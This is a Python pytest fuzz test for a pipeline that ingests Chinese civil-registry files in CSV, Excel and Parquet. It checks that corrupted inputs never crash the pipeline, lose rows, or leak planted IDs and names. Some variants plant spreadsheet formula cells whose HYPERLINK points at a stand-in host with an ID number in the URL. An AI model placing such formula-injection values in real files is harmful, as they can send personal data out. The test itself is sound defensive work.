"""A seeded fuzz test of the readers over every delivered format (issue 12).

From a valid file of each format (CSV in UTF-8 and GB18030, Excel, Parquet), a fixed seed
makes a few hundred hostile variants: flipped bytes, truncations, wrong encodings,
shuffled and missing headers, huge cells, formula cells, wrong types. They are all
delivered in one month and ingested. Whatever they hold: nothing crashes, every file is
in the report, rows in = accepted + quarantined + duplicates for each, and no ID number
or name planted in them appears in any report, artifact text, log or output.
"""

from __future__ import annotations

import io
import logging
import random
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from ingest import delivery

from .conftest import KEY
from .factory import HUKOU_HEADER, make_id
from .hostile import DISABILITY_HEADER, DIV, EMPLOYMENT_HEADER

SEED = 20261201
MONTH = "2023-03"
CASES = 36  # variants of each of the four base files
NAMES = ["诸葛明远", "司马晓燕", "上官文博", "欧阳秋菊", "慕容海涛", "东方雪梅"]
IDS = [make_id(area="330502", birth=f"19{60 + i}0{i + 1}1{i}", seq=f"5{i}{i % 3}") for i in range(6)]
ID_LIKE = re.compile(r"\d{15,}")  # an ID number (or most of one) anywhere in a report

Variant = Callable[[random.Random, bytes], bytes]


# --- the valid base files ------------------------------------------------------------------


def employment_csv() -> bytes:
    rows = [[i, n, "失业登记", "2023/03/01", "1500", DIV] for i, n in zip(IDS, NAMES, strict=True)]
    return ("\n".join(",".join(r) for r in [EMPLOYMENT_HEADER, *rows]) + "\n").encode("utf-8")


def hukou_csv() -> bytes:
    rows = [
        [i, n, "男" if int(i[16]) % 2 else "女", i[6:14], "000000001", "户主", DIV, "正常"]
        for i, n in zip(IDS, NAMES, strict=True)
    ]
    return ("\n".join(",".join(r) for r in [HUKOU_HEADER, *rows]) + "\n").encode("gb18030")


def disability_xlsx(formula_at: tuple[int, int] | None = None, header: bool = True) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "残疾人证"
    ws.append(["湖州市残疾人证信息变动表（2023年03月）"])
    if header:
        ws.append(DISABILITY_HEADER)
    for r, (i, n) in enumerate(zip(IDS, NAMES, strict=True)):
        sex = "男" if int(i[16]) % 2 else "女"
        row: list[object] = [i + "41", n, sex, "肢体", "一级", "2023-03-02", "新办", "是", "否", DIV]
        if formula_at and formula_at[0] == r:
            row[formula_at[1]] = f'=HYPERLINK("http://x.org/{i}","{n}")'
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def contributions_parquet(frame: pd.DataFrame | None = None) -> bytes:
    out = io.BytesIO()
    (frame if frame is not None else contributions_frame()).to_parquet(out)
    return out.getvalue()


def contributions_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "公民身份号码": IDS,
            "费款所属期": pd.array([202303] * len(IDS), dtype="int32"),
            "险种": ["企业职工基本养老保险"] * len(IDS),
            "缴费基数": [4500.0] * len(IDS),
            "缴费状态": ["正常应缴"] * len(IDS),
        }
    )


# --- variants ------------------------------------------------------------------------------


def flip_bytes(rng: random.Random, data: bytes) -> bytes:
    b = bytearray(data)
    for _ in range(rng.randint(1, 8)):
        b[rng.randrange(len(b))] ^= rng.randint(1, 255)
    return bytes(b)


def truncate(rng: random.Random, data: bytes) -> bytes:
    return data[: rng.randrange(len(data))]


def _lines(data: bytes, encoding: str) -> list[str]:
    return data.decode(encoding).splitlines()


def _csv_variants(encoding: str) -> list[Variant]:
    def wrong_encoding(rng: random.Random, data: bytes) -> bytes:
        other = rng.choice([e for e in ("utf-8", "gb18030", "utf-16", "big5", "utf-8-sig") if e != encoding])
        return data.decode(encoding).encode(other, errors="replace")

    def shuffled_header(rng: random.Random, data: bytes) -> bytes:
        lines = _lines(data, encoding)
        cells = [line.split(",") for line in lines]
        order = list(range(len(cells[0])))
        rng.shuffle(order)
        keep_values = rng.random() < 0.5  # columns moved whole, or only the header shuffled
        out = [[c[i] for i in order] if keep_values or n == 0 else c for n, c in enumerate(cells)]
        return ("\n".join(",".join(c) for c in out) + "\n").encode(encoding)

    def missing_header(rng: random.Random, data: bytes) -> bytes:
        lines = _lines(data, encoding)
        if rng.random() < 0.5:
            return ("\n".join(lines[1:]) + "\n").encode(encoding)  # no header row: data on top
        drop = rng.randrange(len(lines[0].split(",")))
        out = [",".join(c for i, c in enumerate(line.split(",")) if i != drop) for line in lines]
        return ("\n".join(out) + "\n").encode(encoding)

    def huge_cell(rng: random.Random, data: bytes) -> bytes:
        lines = _lines(data, encoding)
        row = rng.randrange(1, len(lines))
        cells = lines[row].split(",")
        cells[rng.randrange(len(cells))] = rng.choice(["张", "9", "x"]) * rng.choice(
            [200_000, 3_000_000, 20_000_000]
        )
        lines[row] = ",".join(cells)
        return ("\n".join(lines) + "\n").encode(encoding)

    def ragged_or_quoted(rng: random.Random, data: bytes) -> bytes:
        lines = _lines(data, encoding)
        row = rng.randrange(1, len(lines))
        lines[row] = rng.choice([lines[row] + ",extra", lines[row].rsplit(",", 2)[0], '"' + lines[row], ""])
        return ("\n".join(lines) + "\n").encode(encoding)

    def formula_text(rng: random.Random, data: bytes) -> bytes:
        lines = _lines(data, encoding)
        row = rng.randrange(1, len(lines))
        cells = lines[row].split(",")
        cells[rng.randrange(len(cells))] = f"=HYPERLINK(http://x.org/{IDS[0]})"
        lines[row] = ",".join(cells)
        return ("\n".join(lines) + "\n").encode(encoding)

    return [
        flip_bytes,
        truncate,
        wrong_encoding,
        shuffled_header,
        missing_header,
        huge_cell,
        ragged_or_quoted,
        formula_text,
    ]


def _sheet_xml(change: Callable[[bytes], bytes]) -> Variant:
    """A variant of the worksheet XML inside a valid workbook."""

    def variant(rng: random.Random, data: bytes) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
            for info in src.infolist():
                part = src.read(info)
                if info.filename.startswith("xl/worksheets/sheet"):
                    part = change(rng, part)  # type: ignore[call-arg]
                dst.writestr(info.filename, part)
        return out.getvalue()

    return variant


def _xlsx_variants() -> list[Variant]:
    def formula(rng: random.Random, data: bytes) -> bytes:
        return disability_xlsx((rng.randrange(len(IDS)), rng.randrange(len(DISABILITY_HEADER))))

    def headerless(rng: random.Random, data: bytes) -> bytes:
        return disability_xlsx(header=False)

    def huge_cell(rng: random.Random, part: bytes) -> bytes:
        big = rng.choice([b"9", "张".encode()]) * rng.choice([100_000, 2_000_000])
        return part.replace(b"<t>\xe8\x82\xa2\xe4\xbd\x93</t>", b"<t>" + big + b"</t>", 1)  # 肢体

    def far_row(rng: random.Random, part: bytes) -> bytes:
        r = rng.choice([600_000, 1_048_576, 10**12])
        return part.replace(b"</sheetData>", b'<row r="%d"><c r="A1"><v>1</v></c></row></sheetData>' % r)

    def shuffled_header(rng: random.Random, part: bytes) -> bytes:
        heads = [h.encode() for h in DISABILITY_HEADER]
        moved = heads[:]
        rng.shuffle(moved)
        for a, b in zip(heads, moved, strict=True):
            part = part.replace(b"<t>" + a + b"</t>", b"<t>\x00" + b + b"</t>", 1)
        return part.replace(b"<t>\x00", b"<t>")

    return [
        flip_bytes,
        truncate,
        formula,
        headerless,
        _sheet_xml(flip_bytes),
        _sheet_xml(truncate),
        _sheet_xml(huge_cell),
        _sheet_xml(far_row),
        _sheet_xml(shuffled_header),
    ]


def _parquet_variants() -> list[Variant]:
    def shuffled_or_missing(rng: random.Random, data: bytes) -> bytes:
        f = contributions_frame()
        columns = list(f.columns)
        rng.shuffle(columns)
        if rng.random() < 0.5:
            columns.pop()
        f = f[columns]
        if rng.random() < 0.5:  # the first row delivered as the column names
            f.columns = [str(v) for v in f.iloc[0]]
        return contributions_parquet(f)

    def wrong_types(rng: random.Random, data: bytes) -> bytes:
        f = contributions_frame()
        column = rng.choice(list(f.columns))
        f[column] = rng.choice([NAMES, [1.5] * len(IDS), [b"\xff\xfe"] * len(IDS), [None] * len(IDS)])
        return contributions_parquet(f)

    def huge_cell(rng: random.Random, data: bytes) -> bytes:
        f = contributions_frame()
        f.loc[rng.randrange(len(f)), "险种"] = "张" * rng.choice([100_000, 5_000_000])
        return contributions_parquet(f)

    return [flip_bytes, truncate, shuffled_or_missing, wrong_types, huge_cell]


# --- the test ------------------------------------------------------------------------------


FORMATS: dict[str, tuple[str, str, str, bytes, list[Variant]]] = {
    "csv-utf8": ("employment", "就业失业登记", ".csv", employment_csv(), _csv_variants("utf-8")),
    "csv-gb18030": ("hukou", "户籍人口_全量", ".csv", hukou_csv(), _csv_variants("gb18030")),
    "xlsx": ("disability", "残疾人证信息", ".xlsx", disability_xlsx(), _xlsx_variants()),
    "parquet": ("employment", "社保缴费", ".parquet", contributions_parquet(), _parquet_variants()),
}


def _deliver(raw: Path) -> dict[str, set[str]]:
    """Every variant of every format, delivered in one month; file names by source."""
    rng = random.Random(SEED)
    names: dict[str, set[str]] = {}
    for label, (source, stem, suffix, base, variants) in FORMATS.items():
        folder = raw / source / MONTH
        folder.mkdir(parents=True, exist_ok=True)
        for n in range(CASES):
            variant = variants[n % len(variants)]
            name = f"{stem}_{label}_{n:02d}{suffix}"
            (folder / name).write_bytes(variant(rng, base))
            names.setdefault(source, set()).add(name)
    return names


def _secrets_in(text: str) -> list[str]:
    return [s for s in (*IDS, *NAMES) if s in text] + ID_LIKE.findall(text)


@pytest.mark.timeout(120)
def test_hostile_variants_of_every_format_never_crash_leak_or_lose_a_row(
    paths, sources, runner, caplog, capfd
):
    caplog.set_level(logging.DEBUG)
    delivered = _deliver(paths.raw)
    chosen = {s: sources[s] for s in delivered}
    report = delivery.ingest_month(MONTH, paths, chosen, KEY, runner)
    reported = {(f.source, f.file) for f in report.files}
    for source, names in delivered.items():
        assert {(source, n) for n in names} <= reported  # every file is in the report
    for f in report.files:
        assert f.rows_in == f.accepted + f.quarantined + f.duplicates, f
        assert f.status in ("ingested", "rejected", "missing")
        assert f.file != "*" and f.table != "*"
    statuses = {f.status for f in report.files}
    assert {"ingested", "rejected"} <= statuses  # the fuzz reaches both outcomes
    json_text = (paths.ingest_reports / f"{MONTH}.json").read_text(encoding="utf-8")
    md_text = (paths.ingest_reports / f"{MONTH}.md").read_text(encoding="utf-8")
    out, err = capfd.readouterr()
    for text in (json_text, md_text, report.to_markdown(), caplog.text, out, err):
        assert not _secrets_in(text), _secrets_in(text)[:5]
